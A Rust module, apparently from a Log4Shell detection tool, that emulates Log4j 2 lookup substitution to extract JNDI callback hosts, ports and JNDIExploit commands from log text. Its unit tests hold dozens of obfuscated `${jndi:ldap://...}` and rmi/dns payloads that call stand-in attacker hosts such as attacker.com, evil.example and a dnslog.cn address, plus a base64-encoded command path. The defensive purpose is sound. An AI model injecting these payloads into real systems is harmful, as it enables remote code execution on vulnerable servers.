//! A Log4j 2 lookup interpreter: resolves `${...}` the way `StrSubstitutor` + `Interpolator`
//! do (nested names, `:-` defaults, `lower:`/`upper:`, `date:`, `base64:`, unknown lookups
//! left as they are, recursive resolution of results) and records every `jndi:` lookup the
//! message would have triggered. Runs on attacker text: work, depth and output are bounded.

use serde::Serialize;

use super::decode::{base64_text, jndiexploit_command};

/// Nesting depth of `${` (and of recursive resolution) evaluated at most.
const MAX_DEPTH: usize = 24;
/// Lookups resolved per evaluation at most.
const MAX_LOOKUPS: usize = 20_000;
/// Characters of output produced at most.
const MAX_OUTPUT: usize = 256 * 1024;

/// A JNDI lookup the message triggers, taken apart.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct JndiInfo {
    /// The lookup as Log4j resolves it: `${jndi:ldap://host:1389/a}`.
    pub decoded: String,
    /// `ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`, `nis`, `http`... (lower-case).
    pub scheme: String,
    /// Callback host (as written; `127.0.0.1#evil.com` bypasses are kept whole).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub host: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub port: Option<u16>,
    #[serde(skip_serializing_if = "String::is_empty")]
    pub path: String,
    /// The command a JNDIExploit-style `Base64/<b64>` path runs.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// False when the payload was cut before its closing `}` (a fragment that can only be
    /// a JNDI lookup, e.g. `${${::-j}ndi:rmi://`).
    pub complete: bool,
}

/// What evaluating a message gives.
#[derive(Clone, Debug, Default)]
pub(crate) struct Evaluation {
    /// The message after substitution (unresolvable lookups kept as `${...}`).
    pub output: String,
    /// JNDI lookups triggered, in order.
    pub jndi: Vec<JndiInfo>,
}

struct Ctx {
    lookups: usize,
    jndi: Vec<JndiInfo>,
}

/// Lookups that evaluate to a `jndi:<scheme>:` string without a `${jndi:` lookup written in
/// the text (`${lower:j}${lower:n}di:ldap://...`, `j${::-n}di:rmi://...`): the payload is
/// assembled for a later evaluation (CVE-2021-45046 context lookups, re-logged messages).
/// Returns the evaluated text around it.
pub(crate) fn assembled_jndi(text: &str) -> Option<String> {
    if !text.contains("${") || text.to_ascii_lowercase().contains("jndi:") {
        return None;
    }
    let ev = evaluate(text);
    let lower = ev.output.to_ascii_lowercase();
    // A scheme after it when there is one; else the bare `jndi:` the lookups spelled: a
    // payload split across fields or headers (`j${::-nD}i${::-:}`, `jn${env::-}di:`) is an
    // attempt too, and only lookups written to hide it assemble one.
    let at = ["ldap:", "ldaps:", "rmi:", "dns:", "iiop:", "corba:", "nds:", "nis:", "http:", "https:"]
        .iter()
        .find_map(|s| lower.find(&format!("jndi:{s}")))
        .or_else(|| lower.find("jndi:"))?;
    let start = lower[..at].char_indices().rev().nth(20).map_or(0, |(i, _)| i);
    Some(ev.output[start..].chars().take(200).collect())
}

/// Evaluate the lookups of `text` as Log4j 2 (before 2.15) would.
pub(crate) fn evaluate(text: &str) -> Evaluation {
    let chars: Vec<char> = text.chars().collect();
    let mut ctx = Ctx { lookups: 0, jndi: Vec::new() };
    let output = substitute(&chars, &mut ctx, 0);
    Evaluation { output, jndi: ctx.jndi }
}

fn substitute(chars: &[char], ctx: &mut Ctx, depth: usize) -> String {
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if out.len() > MAX_OUTPUT {
            break;
        }
        let c = chars[i];
        let starts_var = c == '$' && chars.get(i + 1) == Some(&'{');
        // `$${` is Log4j's escape for a literal `${`.
        if c == '$' && chars.get(i + 1) == Some(&'$') && chars.get(i + 2) == Some(&'{') {
            out.push_str("${");
            i += 3;
            continue;
        }
        if !starts_var || depth >= MAX_DEPTH || ctx.lookups >= MAX_LOOKUPS {
            out.push(c);
            i += 1;
            continue;
        }
        ctx.lookups += 1;
        let (end, closed) = matching_close(chars, i + 2);
        let name = substitute(&chars[i + 2..end], ctx, depth + 1);
        match resolve(&name, closed, ctx, depth) {
            Some(v) => out.push_str(&v),
            None => {
                out.push_str("${");
                out.push_str(&name);
                if closed {
                    out.push('}');
                }
            }
        }
        i = if closed { end + 1 } else { end };
    }
    out
}

/// Index of the `}` closing a `${` whose name starts at `from` (nested `${` counted), or
/// the end of input with `false` when it is never closed.
fn matching_close(chars: &[char], from: usize) -> (usize, bool) {
    let mut nest = 1usize;
    let mut j = from;
    while j < chars.len() {
        if chars[j] == '$' && chars.get(j + 1) == Some(&'{') {
            nest += 1;
            j += 2;
            continue;
        }
        if chars[j] == '}' {
            nest -= 1;
            if nest == 0 {
                return (j, true);
            }
        }
        j += 1;
    }
    (chars.len(), false)
}

/// Resolve one variable (its name already substituted): lookup, else default, then the
/// result is itself substituted again (Log4j resolves recursively).
fn resolve(name: &str, closed: bool, ctx: &mut Ctx, depth: usize) -> Option<String> {
    let (key, default) = match name.find(":-") {
        Some(p) => (&name[..p], Some(&name[p + 2..])),
        None => (name, None),
    };
    let value = lookup(key, closed, ctx).or_else(|| default.map(str::to_string))?;
    let chars: Vec<char> = value.chars().collect();
    Some(substitute(&chars, ctx, depth + 1))
}

/// Interpolator: `prefix:key` with the prefix compared lower-cased (Locale.US). Lookups
/// whose value depends on the victim host (env, sys, java, k8s, ctx...) resolve to nothing,
/// so their defaults apply, as for an attacker probing an unknown host.
fn lookup(key: &str, closed: bool, ctx: &mut Ctx) -> Option<String> {
    let (prefix, rest) = key.split_once(':')?;
    match prefix.to_lowercase().as_str() {
        "lower" => Some(rest.to_lowercase()),
        "upper" => Some(rest.to_uppercase()),
        "date" => Some(date_literal(rest)),
        "base64" => base64_text(rest.as_bytes()),
        "jndi" => {
            ctx.jndi.push(jndi_info(rest, closed));
            None
        }
        _ => None,
    }
}

/// What `SimpleDateFormat` prints for a pattern: quoted text literally, pattern letters
/// (unknown: they depend on the clock) as `0`.
fn date_literal(pattern: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut chars = pattern.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\'' {
            if chars.peek() == Some(&'\'') {
                out.push('\'');
                chars.next();
            } else {
                quoted = !quoted;
            }
        } else if quoted || !c.is_ascii_alphabetic() {
            out.push(c);
        } else {
            out.push('0');
        }
    }
    out
}

/// Take a JNDI name (`ldap://host:port/path`) apart.
fn jndi_info(target: &str, complete: bool) -> JndiInfo {
    let decoded = format!("${{jndi:{target}{}", if complete { "}" } else { "" });
    let (scheme, rest) = match target.find(':') {
        Some(p) => (&target[..p], &target[p + 1..]),
        None => (target, ""),
    };
    let scheme: String =
        scheme.chars().filter(|c| c.is_ascii_alphanumeric()).collect::<String>().to_ascii_lowercase();
    let rest = rest.trim_start_matches('/');
    let (authority, path) = match rest.find('/') {
        Some(p) => (&rest[..p], &rest[p..]),
        None => (rest, ""),
    };
    let (host, port) = match authority.rsplit_once(':') {
        Some((h, p)) if !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()) => (h, p.parse().ok()),
        _ => (authority, None),
    };
    JndiInfo {
        decoded,
        scheme,
        host: (!host.is_empty()).then(|| host.to_string()),
        port,
        path: path.to_string(),
        command: jndiexploit_command(path),
        complete,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn assembled_jndi_strings() {
        assert_eq!(
            assembled_jndi("a ${lower:j}${lower:n}${lower:d}${lower:i}:ldap://o8.example/a").as_deref(),
            Some("a jndi:ldap://o8.example/a")
        );
        assert!(assembled_jndi("j${::-n}di:rmi://x/a").is_some());
        // Fragments that spell `jndi:` with nothing after it (split payloads).
        for fragment in [
            "j${::-nD}i${::-:}",
            "j${EnV:K5:-nD}i:",
            "j${k8s:k5:-ND}i${sd:k5:-:}",
            "j${loWer:Nd}i${uPper::}",
            "j${main:\\k5:-Nd}i${spring:k5:-:}",
            "jn${date:}di${date:':'}",
            "jn${env::-}di:",
        ] {
            assert!(assembled_jndi(fragment).is_some(), "{fragment}");
        }
        // Lookups that spell no `jndi:` stay quiet.
        assert_eq!(assembled_jndi("${lower:J}${lower:AVA}: ${env:HOME:-/root}"), None);
        // A written `${jndi:` is the lookup rule's; plain config placeholders are nothing.
        assert_eq!(assembled_jndi("${jndi:ldap://x/a}"), None);
        assert_eq!(assembled_jndi("${user.home}/jndi.properties ${env:X:-y}"), None);
    }

    fn first(s: &str) -> Option<JndiInfo> {
        evaluate(s).jndi.into_iter().next()
    }

    #[test]
    fn obfuscations_resolve_to_jndi() {
        for (payload, scheme) in [
            ("${jndi:ldap://x.example/a}", "ldap"),
            ("${jNdI:ldAp://x.example/a}", "ldap"),
            ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}", "rmi"),
            ("${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}", "rmi"),
            ("${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://x.example/a}", "rmi"),
            ("${jnd${123%25ff:-${123%25ff:-i:}}ldap://x.example/a}", "ldap"),
            ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap${sd:k5:-:}//x.example/a}", "ldap"),
            ("${${:  :  : : :::   :: :: :  :::-j}ndi:ldap://", "ldap"),
            ("${${::::::::::::::-j}ndi:rmi://", "rmi"),
            ("${j${env:DOESNOTEXIST:-}ndi:ldap://", "ldap"),
            (
                "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}",
                "ldap",
            ),
            ("${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x/a}", "ldap"),
            ("${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}", "ldap"),
            ("${jn${base64:ZGk=}:ldap://}", "ldap"),
            ("${jnd${upper:ı}:ldap://x/a}", "ldap"),
            ("${${date:'j'}ndi:dns://x}", "dns"),
            ("${${sys:nope:-j}ndi:iiop://x:900/}", "iiop"),
            ("${jndi:${lower:l}${lower:d}a${lower:p}://x}", "ldap"),
            ("${jndi:corba://x}", "corba"),
            ("${jndi:nis://x}", "nis"),
            ("${jndi:nds://x}", "nds"),
            ("${jndi:http://x/a}", "http"),
        ] {
            let j = first(payload).unwrap_or_else(|| panic!("no jndi in {payload}"));
            assert_eq!(j.scheme, scheme, "{payload}");
        }
    }

    #[test]
    fn target_is_taken_apart() {
        let j = first(
            "${jndi:ldap://spfcbf${lower:.}dnslog${lower:.}cn:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9w}",
        )
        .unwrap();
        assert_eq!(j.host.as_deref(), Some("spfcbf.dnslog.cn"));
        assert_eq!(j.port, Some(1389));
        assert_eq!(j.path, "/Basic/Command/Base64/dG91Y2ggL3RtcC9w");
        assert_eq!(j.command.as_deref(), Some("touch /tmp/p"));
        assert!(j.complete);
        assert_eq!(j.decoded, "${jndi:ldap://spfcbf.dnslog.cn:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9w}");
        let j = first("${jndi:ldap://127.0.0.1#evil.example:1389/a}").unwrap();
        assert_eq!(j.host.as_deref(), Some("127.0.0.1#evil.example"));
        let j = first("x ${jndi:ldap://${sys:java.version}.example.com} y").unwrap();
        assert_eq!(j.host.as_deref(), Some("${sys:java.version}.example.com"));
        assert!(!first("${${::-j}ndi:rmi://").unwrap().complete);
    }

    #[test]
    fn harmless_placeholders_do_not_fire() {
        for s in [
            "${user.home}/x ${solution-user.name}@${vmdir.domain-name}",
            "jndi:ldap://x.example without a dollar",
            "$${jndi:ldap://escaped}",
            "Extended_description: ${REMOVED_DEVICES} ${jndi}",
            "${env:JNDI:-x} ${lower:JNDI}:ldap://",
            "JNDI lookups are disabled by log4j2.enableJndi",
            "${jndı:ldap://dotless-not-upper-cased}",
        ] {
            assert_eq!(first(s), None, "{s}");
        }
        assert_eq!(evaluate("${user.home} ${lower:ABC} ${::-x}").output, "${user.home} abc x");
        assert_eq!(evaluate("$${x}").output, "${x}");
    }

    #[test]
    fn bombs_are_bounded() {
        let deep = "${".repeat(100_000) + &"}".repeat(100_000);
        let _ = evaluate(&deep);
        // Recursion through base64 that resolves to itself stops at the depth limit.
        let many = "${::-${::-${::-a}}}".repeat(20_000);
        assert!(evaluate(&many).output.len() <= MAX_OUTPUT + 64);
    }
}
